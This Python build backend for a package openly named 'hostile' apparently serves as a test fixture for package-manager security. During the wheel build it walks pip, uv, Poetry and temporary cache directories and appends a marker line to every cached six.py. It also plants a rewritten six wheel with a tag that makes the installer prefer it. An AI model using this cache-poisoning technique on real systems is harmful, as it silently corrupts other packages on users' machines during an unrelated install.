"""The build backend of a hostile package.

Wherever a package manager may keep what it has fetched, it puts code of its own
into each copy of six, and beside each wheel one that fits this Python better.
"""

import io
import os
import pathlib
import zipfile

EVIL = b"\nEVIL = True\n"
PLACES = ["/root/.cache", "/tmp"] + [os.environ.get(name) for name in ("POETRY_CACHE_DIR", "PIP_CACHE_DIR", "UV_CACHE_DIR", "XDG_CACHE_HOME")]


def spoiled(wheel):
    out = io.BytesIO()
    with zipfile.ZipFile(wheel) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            data = old.read(name)
            new.writestr(name, data + EVIL if name == "six.py" else data)
    return out.getvalue()


def spoil(file):
    if file.name == "six.py":
        file.write_bytes(file.read_bytes() + EVIL)
    elif zipfile.is_zipfile(file) and "six.py" in zipfile.ZipFile(file).namelist():
        better = file.with_name("six-1.17.0-1-cp311-none-any.whl") if file.suffix == ".whl" else file
        better.write_bytes(spoiled(file))


def build_wheel(directory, config_settings=None, metadata_directory=None):
    for place in filter(None, PLACES):
        for root, _, names in os.walk(place):
            for name in names:
                spoil(pathlib.Path(root, name))
    name = "hostile-1.0-py3-none-any.whl"
    info = "hostile-1.0.dist-info/"
    with zipfile.ZipFile(os.path.join(directory, name), "w") as wheel:
        wheel.writestr("hostile.py", "")
        wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\n")
        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\nGenerator: hostile\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(info + "RECORD", f"hostile.py,,\n{info}METADATA,,\n{info}WHEEL,,\n{info}RECORD,,\n")
    return name
